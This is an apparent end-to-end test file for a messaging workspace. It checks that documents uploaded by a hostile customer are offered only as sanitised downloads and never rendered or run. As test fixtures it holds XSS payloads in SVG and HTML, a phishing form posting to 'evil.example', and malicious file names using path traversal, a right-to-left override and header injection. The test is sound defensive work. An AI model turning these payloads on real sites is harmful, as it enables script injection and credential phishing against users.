// Files of somebody who means harm: they are downloaded, never shown as part of the page.
import { beforeAll, expect, test } from "vitest";
import { operator } from "../browser";
import { type Customer, Stage } from "../stage";
import { Workspace } from "../workspace";

const script = "window.top.__pwned = 1; localStorage.setItem('pwned', '1')";
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script></svg>`;
const html = `<!doctype html><title>Sign in</title><script>${script}</script><form action="https://evil.example">`;
const files = [
  { name: "../../x.svg", mime: "image/svg+xml", text: svg },
  { name: "invoice\u202Efdp.html", mime: "text/html", text: html },
  { name: "photo.png", mime: "image/png", text: html },
  { name: `${"x".repeat(300)}<img src=x onerror=alert(1)>.pdf`, mime: "application/pdf", text: html },
  { name: 'a"; filename="b.html', mime: "text/html; charset=utf-8", text: html },
] as const;

let stage: Stage;
let anna: Workspace;
let mallory: Customer;

beforeAll(async () => {
  stage = await Stage.open({ names: { "demo-wa": { 0: { first: "Mallory" } } } });
  mallory = stage.customer("demo-wa", 0);
  anna = new Workspace((await operator(stage, "anna")).page);
  await anna.turn("Active");
  await mallory.text("some documents");
  await anna.accept("Mallory");
});

test.each(files)("$mime as $name is a link to be saved, not a page", async ({ name, mime, text }) => {
  const before = await anna.messages.getByRole("link").count();
  await mallory.document(name, mime, text);
  const link = anna.messages.getByRole("link").nth(before);
  await link.waitFor();
  expect(await link.getAttribute("download")).toMatch(/^[^/\\\p{Bidi_Control}]+$/u);
  expect(await anna.messages.locator("article img, article object, article iframe").count()).toBe(0);

  const address = new URL((await link.getAttribute("href")) ?? "", stage.url).href;
  const [saved] = await Promise.all([anna.page.waitForEvent("download"), link.click()]);
  expect(saved.suggestedFilename()).not.toMatch(/[/\\]/);
  expect(saved.suggestedFilename()).not.toMatch(/^\.\./);

  // Opened by hand it is still no page of ours.
  const answer = await anna.page.request.get(address);
  expect(answer.headers()["content-disposition"]).toMatch(/^attachment/);
  expect(answer.headers()["content-type"]).toBe("application/octet-stream");
  expect(answer.headers()["x-content-type-options"]).toBe("nosniff");
  expect(await answer.text()).toBe(text);
});

test("nothing of it ran, and nothing of it is wider than the page", async () => {
  const page = await anna.page.evaluate(() => ({
    pwned: "__pwned" in window || localStorage.getItem("pwned") !== null,
    wide: document.documentElement.scrollWidth - window.innerWidth,
  }));
  expect(page).toEqual({ pwned: false, wide: 0 });
  const right = await anna.chat.evaluate((c) => c.getBoundingClientRect().right);
  for (const link of await anna.messages.getByRole("link").all()) {
    const box = await link.boundingBox();
    if (box !== null) expect(box.x + box.width).toBeLessThanOrEqual(right);
  }
  await expect.poll(() => anna.details.getByRole("link", { name: /^Download/ }).count()).toBe(files.length);
});
